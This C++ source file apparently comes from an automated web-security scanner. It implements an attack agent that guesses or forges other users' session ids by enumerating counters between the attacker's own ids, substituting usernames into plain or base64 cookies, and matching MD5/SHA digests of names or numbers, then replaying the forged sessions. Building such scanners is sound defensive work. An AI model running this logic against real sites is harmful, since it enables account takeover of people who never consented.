// guessed-session: looks at ids of his own for a rule and works out the victim's: a counter, the
// time of the sign-in, a digest of the name, whatever was made without cryptographic chance (OWASP
// Session Management Cheat Sheet, "Session ID Entropy"). Nothing is guessed at random.
#include <algorithm>
#include <charconv>
#include <cstdlib>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/stolen.h"
#include "core/base/ascii.h"
#include "core/base/base64.h"
#include "core/base/hex.h"
#include "core/crypto/digest.h"
#include "core/http/percent.h"

namespace parapet::attack {
namespace {

constexpr unsigned long long kWidestGap = 400;
constexpr int kHighestId = 60;
constexpr std::size_t kLongestPlain = 200;
constexpr std::size_t kDigitsOfIds = 4;
constexpr std::size_t kMostNames = 24;
constexpr std::size_t kShort = 12;

class GuessedSession final : public Agent {
    void run(Target& target) override {
        Credentials const before = own_credentials(target);
        if (!victim_signs_in(target)) return;
        say_to_be_another(target, before);
        Credentials const after = own_credentials(target);
        for (Credential const& first : before)
            for (Credential const& second : after) {
                if (first.name != second.name || first.kind != second.kind) continue;
                try_all(target, first, between(first.value, second.value),
                        "counts: his own were \"" + first.value + "\" and \"" + second.value + '"');
                try_all(target, first, of_names(target, first.value),
                        "is made of a name or a number");
            }
        use_foreseen(target);
    }

    // Math.random, or a digest of the time: one who knows the code and a few ids of his own
    // computes the next.
    static void use_foreseen(Target& target) {
        Credentials const foreseen = credentials_of(target, target.victim()->foreseen());
        if (foreseen.empty()) return;
        use(target, foreseen);
        use(target, refresh(target, foreseen));
        Credential const& first = foreseen.front();
        target.note(first.value.size() <= kShort
                        ? "\"" + first.name + "=" + first.value +
                              "\" is so short that whoever tries all of its kind finds it."
                        : "No cryptographic generator has part in \"" + first.name + "=" +
                              first.value + "\": it was worked out.");
    }

    // What names him in the clear is changed, with all else as it was given to him.
    static void say_to_be_another(Target& target, Credentials const& own) {
        for (std::size_t i = 0; i < own.size(); ++i)
            for (std::string& value : others_names(target, own[i].value)) {
                Credentials changed = own;
                changed[i].value = std::move(value);
                use(target, changed);
                target.note("\"" + own[i].name + "\" names him in the clear.");
            }
    }

    static std::vector<std::string> others_names(Target const& target, std::string const& value) {
        std::vector<std::string> all = others_in(target, http::percent_decode(value));
        for (std::string& each : all) each = http::serialize_query({{"", each}}).substr(1);
        for (auto form : {Base64::Standard, Base64::Url}) {
            auto const bytes = decode_base64(value, form);
            if (!bytes) continue;
            for (std::string const& each :
                 others_in(target, std::string(bytes.value().begin(), bytes.value().end())))
                all.push_back(encode_base64(as_bytes(each), form));
        }
        return all;
    }

    // The same text with a victim's name for his, or with a short number that is near.
    static std::vector<std::string> others_in(Target const& target, std::string const& text) {
        std::vector<std::string> all;
        bool const is_plain = text.size() < kLongestPlain &&
                              std::all_of(text.begin(), text.end(),
                                          [](unsigned char c) { return c >= 0x20 && c < 0x7F; });
        if (!is_plain) return all;
        std::string const& own = target.surface().attacker.username;
        if (std::size_t const at = text.find(own); !own.empty() && at != std::string::npos)
            for (std::string const& name : target.surface().usernames)
                all.push_back(text.substr(0, at) + name + text.substr(at + own.size()));
        // A long text with numbers in it is random, and no name.
        if (text.size() > kDigitsOfIds && text.find_first_of("{:=") == std::string::npos)
            return all;
        for (std::size_t at = 0; at < text.size() && all.size() < kMostNames; ++at) {
            std::size_t const end = std::min(text.find_first_not_of("0123456789", at), text.size());
            bool const stands_alone = at == 0 || !ascii::is_alphanumeric(text[at - 1]);
            if (end > at && end - at <= kDigitsOfIds && stands_alone)
                for (int id = std::atoi(text.c_str() + at), near = std::max(0, id - 4);
                     near <= id + 4; ++near)
                    if (near != id)
                        all.push_back(text.substr(0, at) + std::to_string(near) + text.substr(end));
            at = std::max(at, end);
        }
        return all;
    }

    static void try_all(Target& target, Credential credential,
                        std::vector<std::string> const& values, std::string const& rule) {
        if (!values.empty())
            target.note("\"" + credential.name + "\" " + rule + "; " +
                        std::to_string(values.size()) + " values come into question.");
        for (std::string const& value : values) {
            credential.value = value;
            use(target, {credential});
        }
    }

    // Two ids that differ in one number, decimal or hexadecimal, with few others in between.
    static std::vector<std::string> between(std::string const& first, std::string const& second) {
        std::vector<std::string> all;
        if (first.size() != second.size() || first == second) return all;
        for (int base : {10, 16, 36}) {
            auto const is_digit = [base](char c) {
                return ascii::is_digit(c) || (base == 16 && c >= 'a' && c <= 'f') ||
                       (base == 36 && c >= 'a' && c <= 'z');
            };
            std::size_t start = 0;
            while (first[start] == second[start]) ++start;
            std::size_t end = first.size();
            while (end > start && first[end - 1] == second[end - 1]) --end;
            // The whole number, not only where it differs.
            constexpr std::size_t kMostDigits = 12;
            while (start > 0 && is_digit(first[start - 1]) && end - start < kMostDigits) --start;
            while (end < first.size() && is_digit(first[end]) && end - start < kMostDigits) ++end;
            auto const low = number(first.substr(start, end - start), base);
            auto const high = number(second.substr(start, end - start), base);
            if (!low || !high || *high <= *low || *high - *low > kWidestGap) continue;
            for (auto value = *low + 1; value < *high; ++value)
                all.push_back(first.substr(0, start) + text(value, base, end - start) +
                              first.substr(end));
            return all;
        }
        return all;
    }

    static std::optional<unsigned long long> number(std::string const& text, int base) {
        unsigned long long value = 0;
        auto const read = std::from_chars(text.data(), text.data() + text.size(), value, base);
        if (read.ec != std::errc() || read.ptr != text.data() + text.size()) return std::nullopt;
        return value;
    }
    static std::string text(unsigned long long value, int base, std::size_t width) {
        char digits[24];
        auto const end = std::to_chars(digits, digits + sizeof digits, value, base).ptr;
        std::string written(digits, end);
        return written.size() < width ? std::string(width - written.size(), '0') + written
                                      : written;
    }

    // If it is a digest of the own name or number, then of others' names or numbers, too.
    static std::vector<std::string> of_names(Target const& target, std::string const& own) {
        std::vector<std::string> all;
        std::vector<std::string> numbers;
        for (int i = 0; i <= kHighestId; ++i) numbers.push_back(std::to_string(i));
        for (auto hash : {crypto::Hash::Md5, crypto::Hash::Sha1, crypto::Hash::Sha256})
            for (Write write : {as_hex, as_base64, as_base64_url}) {
                auto const is_of = [&](std::string const& text) {
                    return write(hash, text) == own;
                };
                if (is_of(target.surface().attacker.username))
                    for (std::string const& name : target.surface().usernames)
                        all.push_back(write(hash, name));
                if (std::any_of(numbers.begin(), numbers.end(), is_of))
                    for (std::string const& number : numbers) all.push_back(write(hash, number));
            }
        for (auto form : {Base64::Standard, Base64::Url})
            if (encode_base64(as_bytes(target.surface().attacker.username), form) == own)
                for (std::string const& name : target.surface().usernames)
                    all.push_back(encode_base64(as_bytes(name), form));
        if (own == target.surface().attacker.username) all = target.surface().usernames;
        return all;
    }

    using Write = std::string (*)(crypto::Hash, std::string const&);
    static std::string as_hex(crypto::Hash hash, std::string const& name) {
        return encode_hex(crypto::digest(hash, as_bytes(name)));
    }
    static std::string as_base64(crypto::Hash hash, std::string const& name) {
        return encode_base64(crypto::digest(hash, as_bytes(name)));
    }
    static std::string as_base64_url(crypto::Hash hash, std::string const& name) {
        return encode_base64(crypto::digest(hash, as_bytes(name)), Base64::Url);
    }
};

}  // namespace

std::unique_ptr<Agent> make_guessed_session() { return std::make_unique<GuessedSession>(); }

}  // namespace parapet::attack
